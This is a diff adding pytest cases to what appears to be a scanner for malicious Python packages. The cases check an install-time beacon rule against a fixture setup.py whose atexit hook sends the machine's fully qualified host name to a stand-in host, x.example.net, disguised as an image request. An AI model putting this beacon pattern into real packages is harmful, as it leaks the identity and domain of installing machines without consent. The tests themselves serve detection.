@@ -265,3 +265,27 @@ def test_harvest_sent_through_a_fronted_host(engine: Engine) -> None:
     assert {"exfil", "harvest"} <= set(evidence[0]["capabilities"])
     plain = code.replace("'Host': 'collector.example.net'", "'Accept': 'text/plain'")
     assert run_rule(engine, data_exfiltration_rule, sdist({"t/i.py": plain})) is None
+
+
+FQDN_SETUP = (
+    "import atexit, socket, urllib.request\nfrom setuptools import setup\n\n"
+    "def _after():\n"
+    "    name = socket.getfqdn()\n"
+    "{send}"
+    "atexit.register(_after)\nsetup(name='tidy-strings', version='0.4.0')\n"
+)
+
+
+def test_fully_qualified_host_name_sent_at_install_is_a_beacon(engine: Engine) -> None:
+    """``getfqdn()`` names the machine and its company's domain: dependency-confusion probes
+    send it."""
+    send = "    urllib.request.urlopen('https://x.example.net/logo.png?' + name)\n"
+    archive = sdist(setup_py=FQDN_SETUP.format(send=send))
+    evidence = run_rule(engine, install_time_beacon_rule, archive)
+    assert {"network", "recon"} <= set(evidence[0]["capabilities"])
+    assert engine.analyze(archive).flagged
+
+
+def test_fully_qualified_host_name_kept_local_at_install_is_no_beacon(engine: Engine) -> None:
+    archive = sdist(setup_py=FQDN_SETUP.format(send="    print(name)\n"))
+    assert run_rule(engine, install_time_beacon_rule, archive) is None
